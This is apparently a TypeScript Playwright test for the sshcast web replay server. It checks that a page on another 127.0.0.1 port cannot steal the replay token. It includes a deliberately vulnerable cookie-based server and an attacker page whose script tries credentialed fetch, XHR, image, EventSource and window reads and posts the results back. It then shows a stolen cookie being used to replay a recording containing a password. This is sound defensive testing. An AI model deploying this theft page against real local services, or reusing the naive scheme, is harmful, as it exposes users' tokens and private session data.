/**
 * The replay token against another local account's web page (issue 13, attack 3). Cookies belong
 * to a host, not to a port: a page that any account serves on another port of 127.0.0.1 receives
 * the cookies set by every other port. The attack, in Debian's chromium: open the replay page with
 * its token, then visit a page on another 127.0.0.1 port, whose server records everything the
 * browser sends it and whose script tries fetch(), XHR, an image and an EventSource against the
 * replay port. Against a naive server that keeps the token in a cookie (as sshcast web did) the
 * attacker's server receives the token and replays a recording with it; against ours it receives
 * nothing, and every attempt gets 401.
 */
import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { needs } from '../helpers/needs.js';
import { header, makeDir, rawGet, serve, type Served } from '../web/serve.js';

const CHROMIUM = '/usr/bin/chromium';
const ARGS = [
  '--headless',
  '--no-sandbox',
  '--disable-gpu',
  '--disable-background-networking',
  '--disable-component-update',
  '--no-first-run',
  '--disable-sync',
];
const NAME = 'ssh-session-1-secret.cast';
const SECRET_OUTPUT = 'root password is hunter2';
const TOKEN = 'naive-token-0123456789abcdef';

interface Listening {
  port: number;
  origin: string;
  close(): Promise<void>;
}

function listen(server: http.Server): Promise<Listening> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const port = (server.address() as AddressInfo).port;
      resolve({
        port,
        origin: `http://127.0.0.1:${port}`,
        close: () =>
          new Promise<void>((done) => {
            server.close(() => done());
            server.closeAllConnections();
          }),
      });
    }),
  );
}

/**
 * The scheme sshcast web used before: the token accepted once in the query, then kept in an
 * `HttpOnly; SameSite=Strict` cookie named for the port, which every data request must carry.
 */
function naiveServer(dir: string): Promise<Listening> {
  let port = 0;
  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://x');
    if (url.searchParams.get('token') === TOKEN) {
      res.writeHead(303, {
        'Set-Cookie': `sshcast_${port}=${TOKEN}; HttpOnly; SameSite=Strict; Path=/`,
        Location: '/',
      });
      return res.end();
    }
    if (!(req.headers.cookie ?? '').split('; ').includes(`sshcast_${port}=${TOKEN}`)) {
      res.writeHead(401);
      return res.end('unauthorized');
    }
    if (url.pathname === '/') {
      res.writeHead(200, { 'Content-Type': 'text/html' });
      return res.end('<p>recordings</p>');
    }
    if (url.pathname === `/files/${NAME}`) return res.end(fs.readFileSync(path.join(dir, NAME)));
    res.writeHead(404);
    res.end();
  });
  return listen(server).then((l) => {
    port = l.port;
    return l;
  });
}

/** What the attacker's server saw of one request. */
interface Seen {
  url: string;
  headers: http.IncomingHttpHeaders;
  body: string;
}

/**
 * Another account's web server: it records every request and serves a page whose script tries
 * to read the replay server at `?target=ORIGIN` with the browser's credentials, and posts back
 * whatever it got.
 */
function attackerServer(seen: Seen[]): Promise<Listening> {
  const page = `<!doctype html><meta charset="utf-8"><title>innocent</title><script>
const target = new URLSearchParams(location.search).get('target');
const file = ${JSON.stringify(NAME)};
const results = {};
const report = () => fetch('/report', { method: 'POST', body: JSON.stringify(results) });
async function attempt(name, f) {
  try { results[name] = await f(); } catch (e) { results[name] = 'failed: ' + e; }
}
(async () => {
  results.ownStorage = JSON.stringify([document.cookie, { ...localStorage }, { ...sessionStorage }]);
  await attempt('fetch', async () => (await (await fetch(target + '/files/' + file, { credentials: 'include' })).text()));
  await attempt('fetchNoCors', async () => (await fetch(target + '/files/' + file, { mode: 'no-cors', credentials: 'include' })).type);
  await attempt('xhr', () => new Promise((resolve) => {
    const x = new XMLHttpRequest();
    x.withCredentials = true;
    x.onload = () => resolve(x.status + ' ' + x.responseText);
    x.onerror = () => resolve('failed: xhr error');
    x.open('GET', target + '/api/recordings');
    x.send();
  }));
  await attempt('img', () => new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => resolve('failed: img error');
    img.src = target + '/files/' + file;
  }));
  await attempt('eventSource', () => new Promise((resolve) => {
    const es = new EventSource(target + '/live/' + file, { withCredentials: true });
    es.onmessage = (m) => { es.close(); resolve('message ' + m.data); };
    es.onerror = () => { es.close(); resolve('failed: eventsource error'); };
  }));
  await attempt('openedWindow', async () => {
    const w = window.open(target + '/');
    await new Promise((r) => setTimeout(r, 500));
    try { return JSON.stringify([w.sessionStorage.length, w.document.cookie]); } finally { w.close(); }
  });
  await report();
  document.title = 'done';
})();
</script>`;
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      seen.push({ url: req.url ?? '', headers: req.headers, body });
      res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(req.url?.startsWith('/report') ? 'ok' : page);
    });
  });
  return listen(server);
}

let tmp: string;
let dir: string;
let browser: Browser | undefined;

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'sshcast-token-theft-'));
  dir = makeDir(tmp, 'recordings', {
    [NAME]:
      header({ command: 'cat notes', localUser: 'alice' }) +
      `[0.1,"o","${SECRET_OUTPUT}\\r\\n"]\n[0.2,"x","0"]\n`,
  });
  if (fs.existsSync(CHROMIUM))
    browser = await chromium.launch({ executablePath: CHROMIUM, args: ARGS });
});

afterAll(async () => {
  await browser?.close();
  if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
});

/** Runs the attacker's page against `target` in `page`; resolves with what its script reported. */
async function visitAttacker(
  page: Page,
  attacker: Listening,
  target: string,
  seen: Seen[],
): Promise<Record<string, string>> {
  await page.goto(`${attacker.origin}/?target=${encodeURIComponent(target)}`);
  await page.waitForFunction(() => document.title === 'done', null, { timeout: 20_000 });
  const report = seen.find((s) => s.url === '/report');
  expect(report, 'the attack page reported back').toBeDefined();
  return JSON.parse(report!.body) as Record<string, string>;
}

const chromiumMissing = (): string | undefined =>
  fs.existsSync(CHROMIUM) ? undefined : `${CHROMIUM} is missing (apt-get install chromium)`;

describe('the replay token against a page on another port of 127.0.0.1', () => {
  it('a naive server that keeps the token in a cookie: the other port receives it and replays a recording', async (ctx) => {
    needs(ctx, chromiumMissing());
    const naive = await naiveServer(dir);
    const seen: Seen[] = [];
    const attacker = await attackerServer(seen);
    const context = await browser!.newContext();
    try {
      const page = await context.newPage();
      await page.goto(`${naive.origin}/?token=${TOKEN}`);
      expect(await page.content()).toContain('recordings');
      await visitAttacker(page, attacker, naive.origin, seen);
      // The browser sent the naive server's cookie to the attacker's port.
      const stolen = seen
        .map((s) => s.headers.cookie ?? '')
        .join('; ')
        .split('; ')
        .find((c) => c.startsWith(`sshcast_${naive.port}=`));
      expect(stolen).toBe(`sshcast_${naive.port}=${TOKEN}`);
      // ... with which the attacker replays a recording from anywhere.
      const replay = await rawGet(naive.port, `/files/${NAME}`, { Cookie: stolen! });
      expect(replay.status).toBe(200);
      expect(replay.body.toString()).toContain(SECRET_OUTPUT);
    } finally {
      await context.close();
      await attacker.close();
      await naive.close();
    }
  });

  it('ours: the other port receives no token, and fetch, XHR, an image and an EventSource all get 401', async (ctx) => {
    needs(ctx, chromiumMissing());
    const served: Served = await serve(dir);
    const seen: Seen[] = [];
    const attacker = await attackerServer(seen);
    const context = await browser!.newContext();
    try {
      const page = await context.newPage();
      await page.goto(served.url);
      await page.waitForSelector(`tr[data-file="${NAME}"]`, { timeout: 15_000 });
      // The page works with the token, and the browser holds it (in this origin's storage).
      expect(await page.evaluate(() => sessionStorage.getItem('sshcast-token'))).toBe(served.token);
      expect(served.stderr()).not.toMatch(/refused/);

      const results = await visitAttacker(page, attacker, served.origin, seen);
      // Nothing the browser sent the attacker's server carries the token.
      const everything = JSON.stringify(seen);
      expect(everything).not.toContain(served.token);
      expect(seen.every((s) => s.headers.cookie === undefined)).toBe(true);
      // The attacker's own origin has its own, empty storage; the opened window cannot be read.
      expect(results.ownStorage).toBe(JSON.stringify(['', {}, {}]));
      expect(results.openedWindow).toMatch(/^failed: SecurityError/);
      // Every try against our port was refused with 401: nothing was served to it.
      for (const name of ['fetch', 'xhr', 'img', 'eventSource'])
        expect(results[name], name).toMatch(/^failed/);
      expect(JSON.stringify(results)).not.toContain(SECRET_OUTPUT);
      // Our server refused every one of those tries with 401, as its audit log says (the browser
      // reports a refused cross-origin response to no one, not even to Playwright).
      const refused = [
        ...served.stderr().matchAll(/refused GET (\S+) from 127\.0\.0\.1:\d+: 401/g),
      ];
      expect(refused.map((m) => m[1]).sort()).toEqual(
        [
          `/api/recordings`,
          `/files/${NAME}`,
          `/files/${NAME}`,
          `/files/${NAME}`,
          `/live/${NAME}`,
        ].sort(),
      );
      expect(served.stderr()).not.toMatch(/replay of|live view of/);
    } finally {
      await context.close();
      await attacker.close();
      expect(await served.stop()).toBe(0);
    }
  });
});
